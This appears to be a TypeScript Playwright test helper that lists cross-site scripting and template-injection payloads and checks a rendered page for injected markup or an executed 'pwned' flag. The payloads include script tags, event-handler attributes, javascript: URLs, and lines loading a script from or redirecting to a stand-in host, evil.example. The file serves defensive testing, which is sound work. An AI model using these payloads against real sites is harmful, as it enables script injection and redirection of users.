import type { Page } from "playwright-core";

/** Each would set `pwned` if a page took it for markup, a template or a URL. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=1</script>\u05E9\u05DC\u05D5\u05DD`,
  "<script>globalThis.pwned=1</script>",
  "</script><script>globalThis.pwned=1</script>",
  "</title><script>globalThis.pwned=1</script>",
  "</textarea><script>globalThis.pwned=1</script>",
  "</style><script>globalThis.pwned=1</script>",
  "--><script>globalThis.pwned=1</script>",
  "]]><script>globalThis.pwned=1</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>globalThis.pwned=1</scr</script>ipt>",
  `"><img src=x onerror=globalThis.pwned=1>`,
  `'><img src=x onerror=globalThis.pwned=1>`,
  `" autofocus onfocus="globalThis.pwned=1`,
  `' onmouseover='globalThis.pwned=1`,
  "` onmouseover=globalThis.pwned=1 `",
  "<img src=x onerror=&#103;lobalThis.pwned=1>",
  "<svg onload=globalThis.pwned=1>",
  "<svg><animate onbegin=globalThis.pwned=1 attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:globalThis.pwned=1'><text>x</text></a></svg>",
  "<math><mtext><img src=x onerror=globalThis.pwned=1></mtext></math>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<iframe src='javascript:parent.pwned=1'></iframe>",
  "<object data='javascript:globalThis.pwned=1'></object>",
  "<details open ontoggle=globalThis.pwned=1>x</details>",
  "<video><source onerror=globalThis.pwned=1></video>",
  "<form action='javascript:globalThis.pwned=1'><button>go</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "javascript:globalThis.pwned=1",
  "[click](javascript:globalThis.pwned=1)",
  "{{constructor.constructor('globalThis.pwned=1')()}}",
];

/** What a page holds that only injected markup could have made. Empty if texts stay texts. */
export async function injectedMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    // A title or a label may have such a text; only an address is followed.
    const urls = new Set(["href", "xlink:href", "src", "action", "formaction", "data", "srcdoc", "poster", "to"]);
    const isOwn = (script: HTMLScriptElement) => script.src.startsWith(location.origin);
    const forbidden = "img[src=x], iframe, object, embed, base, meta[http-equiv], math, video, form[action]";
    const found = [...document.querySelectorAll(forbidden)];
    found.push(...[...document.scripts].filter((script) => !isOwn(script)));
    for (const element of document.querySelectorAll("*"))
      for (const { name, value } of element.attributes)
        if (name.startsWith("on") || (urls.has(name) && /^\s*javascript:/i.test(value))) found.push(element);
    const pwned = (globalThis as { pwned?: number }).pwned === undefined ? [] : ["a hostile text was executed"];
    return [...pwned, ...found.map((element) => element.outerHTML.slice(0, 120))];
  });
}
